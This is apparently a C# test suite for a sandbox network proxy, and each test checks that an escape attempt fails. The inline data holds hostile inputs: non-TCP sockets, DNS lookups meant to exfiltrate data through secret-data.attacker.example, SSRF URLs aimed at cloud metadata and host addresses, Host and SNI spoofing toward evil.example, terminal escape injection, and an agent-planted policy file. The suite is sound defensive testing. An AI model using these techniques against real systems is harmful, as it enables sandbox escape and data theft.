using Microsoft.AspNetCore.Http;
using Sbx.Door.Tests.Running;
using Sbx.Egress.Tests.Harness;
using Sbx.Sandbox.Tests.Running;

namespace Sbx.Door.Tests;

/// <summary>Ways around the door, tried from inside a sandbox that may reach one host.</summary>
public sealed class WallTests(WallTests.Hosts world) : IClassFixture<WallTests.Hosts>
{
    // Threats 5, 6, 24, 26: nothing but TCP through the door leaves, and it fails at once.
    [Theory]
    [InlineData("QUIC", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.7', 443)); s.settimeout(5); s.send(b'x' * 1200); s.recv(100)")]
    [InlineData("mDNS", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.sendto(b'x' * 30, ('224.0.0.251', 5353)); s.recv(100)")]
    [InlineData("ping", "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 1); s.settimeout(5); s.sendto(b'\\x08\\x00' + b'\\x00' * 30, ('198.51.100.7', 0)); s.recv(100)")]
    [InlineData("UDP over IPv6", "import socket; s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM); s.connect(('2001:db8::1', 4433)); s.settimeout(5); s.send(b'x'); s.recv(100)")]
    public async Task What_is_not_TCP_does_not_leave(string what, string program)
    {
        var result = await world.Sbx.RunAsync("exec", "-u", "root", "wall", "python3", "-c", program);

        Assert.True(result.Code != 0, $"{what} got an answer: {result.Text}");
        Assert.DoesNotContain("timed out", result.Error, StringComparison.Ordinal);
    }

    // Threat 5: a name is no message to anyone.
    [Fact]
    public async Task Looking_a_name_up_sends_nothing_and_gives_an_address_of_no_network()
    {
        var result = await world.Home.ShAsync("wall", "getent ahostsv4 secret-data.attacker.example | head -1");

        var address = result.Ended(0).Text.Split(' ')[0];
        Assert.StartsWith("198.18.", address, StringComparison.Ordinal);
    }

    // Threat 5: another name server is our own stub, and says nothing that it would have to ask for.
    [Fact]
    public async Task A_question_to_another_name_server_is_answered_inside_and_without_data()
    {
        const string Program = "import socket; s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('198.51.100.53', 53)); s.settimeout(20); "
            + "s.send(b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00' + b'\\x06secret\\x08attacker\\x07example\\x00' + b'\\x00\\x10\\x00\\x01'); a = s.recv(512); print(a[6] * 256 + a[7])";

        var result = await world.Sbx.RunAsync("exec", "wall", "python3", "-c", Program);

        Assert.Equal("0\n", result.Ended(0).Text);
    }

    // Threats 7, 9: the host, its network and the metadata services are not there, whatever they are called.
    [Theory]
    [InlineData("http://127.0.0.2:22/")]
    [InlineData("http://169.254.169.254/latest/meta-data/")]
    [InlineData("http://[fd00:ec2::254]/latest/")]
    [InlineData("http://[::ffff:169.254.169.254]/")]
    [InlineData("http://10.0.0.1/")]
    [InlineData("http://2852039166/")]
    [InlineData("http://host.docker.internal:22/")]
    public async Task An_inner_address_is_refused_also_when_every_public_host_is_allowed(string url)
    {
        var result = await world.Sbx.RunAsync("exec", "open", "curl", "-sS", "-g", "--max-time", "20", "--noproxy", "none.example", "-x", "http://127.0.0.1:3128", "-w", "%{http_code}", url);

        Assert.True(result.Text.EndsWith("403", StringComparison.Ordinal) || result.Text.EndsWith("400", StringComparison.Ordinal), $"{url}: {result.Text} {result.Error}");
    }

    // Threat 9, on the captured way.
    [Fact]
    public async Task The_captured_way_does_not_lead_to_the_host_either()
    {
        var result = await world.Home.ShAsync("open", "curl -sS --noproxy '*' --max-time 20 -w '%{http_code}' http://10.0.0.1/");

        Assert.EndsWith("403", result.Text, StringComparison.Ordinal);
    }

    // Threats 3 and 12, where the rule has the door look into requests.
    [Theory]
    [InlineData("another Host in TLS", "curl -sS https://opened.example/ -H 'Host: evil.example' -w '%{http_code}'")]
    [InlineData("another name in TLS", "curl -sSk --connect-to evil.example:443:opened.example:443 https://evil.example/ -w '%{http_code}'")]
    public async Task A_request_whose_names_differ_is_refused(string what, string line)
    {
        var result = await world.Home.ShAsync("wall", line);

        Assert.True(result.Code != 0 || result.Text.EndsWith("421", StringComparison.Ordinal) || result.Text.EndsWith("403", StringComparison.Ordinal) || result.Text.EndsWith("400", StringComparison.Ordinal), $"{what}: {result.Text}");
        Assert.DoesNotContain("evil was here", result.Text, StringComparison.Ordinal);
        Assert.Empty(world.Evil.Seen);
        Assert.DoesNotContain(world.Opened.Seen, r => r.Host.Contains("evil", StringComparison.Ordinal));
    }

    // Threat 13: effect at once, on open tunnels too.
    [Fact]
    public async Task An_open_tunnel_is_closed_when_its_rule_goes()
    {
        (await world.Sbx.RunAsync("policy", "allow", "network", "slow.example", "--sandbox", "wall")).Ended(0);
        using var client = world.Sbx.Start(["exec", "wall", "curl", "-sS", "-N", "https://slow.example/"]);
        Assert.Equal("begun", await client.StandardOutput.ReadLineAsync());

        (await world.Sbx.RunAsync("policy", "rm", "network", "--resource", "slow.example", "--sandbox", "wall", "--force")).Ended(0);
        await client.WaitForExitAsync(new CancellationTokenSource(TimeSpan.FromMinutes(1)).Token);

        Assert.NotEqual(0, client.ExitCode);
        var row = (await world.RequestsAsync("wall")).Last(r => r.GetProperty("host").GetString() == "slow.example");
        Assert.Contains("slow.example", row.GetProperty("reason").GetString(), StringComparison.Ordinal);
    }

    // Threat 36.
    [Fact]
    public async Task Control_characters_of_the_guest_do_not_reach_the_terminal()
    {
        await world.Home.ShAsync("wall", "printf 'GET http://good.example/\\033]0;owned\\007 HTTP/1.1\\r\\nHost: good.example\\r\\n\\r\\n' | timeout 5 python3 -c \"import socket, sys; s = socket.create_connection(('127.0.0.1', 3128)); s.sendall(sys.stdin.buffer.read()); s.recv(100)\"");
        foreach (var options in (string[][])[["--requests"], [], ["--requests", "--json"]])
        {
            var log = (await world.Sbx.RunAsync(["policy", "log", "wall", .. options])).Ended(0);
            Assert.DoesNotContain((byte)0x1b, log.Output);
            Assert.DoesNotContain((byte)0x07, log.Output);
        }
    }

    // Threat 43.
    [Fact]
    public async Task A_policy_that_the_agent_writes_into_the_workspace_only_narrows()
    {
        var (name, workspace) = await world.Home.CreateAsync("narrow", "--allow", "good.example");
        (await world.Home.ShAsync(name, "mkdir .sbx && printf 'version: 1\\nrules:\\n  - allow: evil.example\\n  - deny: good.example\\n' > .sbx/policy.yaml")).Ended(0);
        (await world.Sbx.RunAsync("stop", name)).Ended(0);

        var evil = await world.Home.ShAsync(name, "curl -sS https://evil.example/ -w '%{http_code}'");
        var good = await world.Home.ShAsync(name, "curl -sS https://good.example/ -w '%{http_code}'");

        Assert.EndsWith("403", evil.Text, StringComparison.Ordinal);
        Assert.EndsWith("403", good.Text, StringComparison.Ordinal);
        Assert.True(File.Exists(Path.Combine(workspace, ".sbx", "policy.yaml")));
    }

    [Fact]
    public async Task A_certificate_that_is_not_good_is_seen_by_the_client_itself_when_TLS_is_not_opened()
    {
        var result = await world.Home.ShAsync("open", "curl -sS https://self-signed.example/");

        // 60: the issuer is not known; 35: it is, by name, and did not sign this.
        Assert.True(result.Code is 60 or 35, $"{result.Code}: {result.Error}");
    }

    [Theory]
    [InlineData("bad-certificate.example", "certificate")]
    [InlineData("down.example", "down.example")]
    public async Task A_destination_that_fails_says_how(string host, string word)
    {
        (await world.Sbx.RunAsync("policy", "allow", "network", host, "--method", "GET", "--path", "/**", "--sandbox", "open")).Ended(0);

        var result = await world.Home.ShAsync("open", $"curl -sS https://{host}/ -w '%{{http_code}}'");

        Assert.EndsWith("502", result.Text, StringComparison.Ordinal);
        Assert.Contains(word, result.Text, StringComparison.Ordinal);
    }

    // A name of a removed sandbox brings nothing of it along.
    [Fact]
    public async Task A_new_sandbox_with_the_name_of_a_removed_one_has_neither_its_rules_nor_its_secrets()
    {
        await world.Home.CreateAsync("again", "--allow", "good.example");
        await world.StoreAsync("openai", "sk-proj-again-0123456789", "again");
        (await world.Sbx.RunAsync("rm", "--force", "again")).Ended(0);
        await world.Home.CreateAsync("again", "--policy", "deny-all");

        var good = await world.Home.ShAsync("again", "curl -sS https://good.example/ -w '%{http_code}'; printenv OPENAI_API_KEY");

        Assert.Contains("403", good.Text, StringComparison.Ordinal);
        Assert.DoesNotContain("proxy-managed", good.Text, StringComparison.Ordinal);
    }

    public sealed class Hosts : World
    {
        internal WebUpstream Good { get; private set; } = null!;

        internal WebUpstream Opened { get; private set; } = null!;

        internal WebUpstream Evil { get; private set; } = null!;

        protected override async Task StandInAsync()
        {
            Good = await ServeAsync(c => c.Response.WriteAsync("good\n"), "good.example");
            Opened = await ServeAsync(c => c.Response.WriteAsync("opened\n"), "opened.example");
            Evil = await ServeAsync(c => c.Response.WriteAsync("evil was here\n"), "evil.example");
            await ServeAsync(async c =>
            {
                await c.Response.WriteAsync("begun\n");
                await c.Response.Body.FlushAsync();
                await Task.Delay(Timeout.Infinite, c.RequestAborted);
            }, "slow.example");
            await ServeWithAsync(new TestAuthority().Issue("bad-certificate.example"), c => c.Response.WriteAsync("never"), "bad-certificate.example");
            await ServeWithAsync(new TestAuthority().Issue("self-signed.example"), c => c.Response.WriteAsync("never"), "self-signed.example");
            MapToNobody("down.example");
        }

        protected override async Task PrepareAsync()
        {
            await Home.CreateAsync("wall", "--policy", "deny-all", "--allow", "good.example");
            (await Sbx.RunAsync("policy", "allow", "network", "opened.example", "--method", "GET", "--path", "/**", "--sandbox", "wall")).Ended(0);
            await Home.CreateAsync("open", "--policy", "allow-all");
        }
    }
}
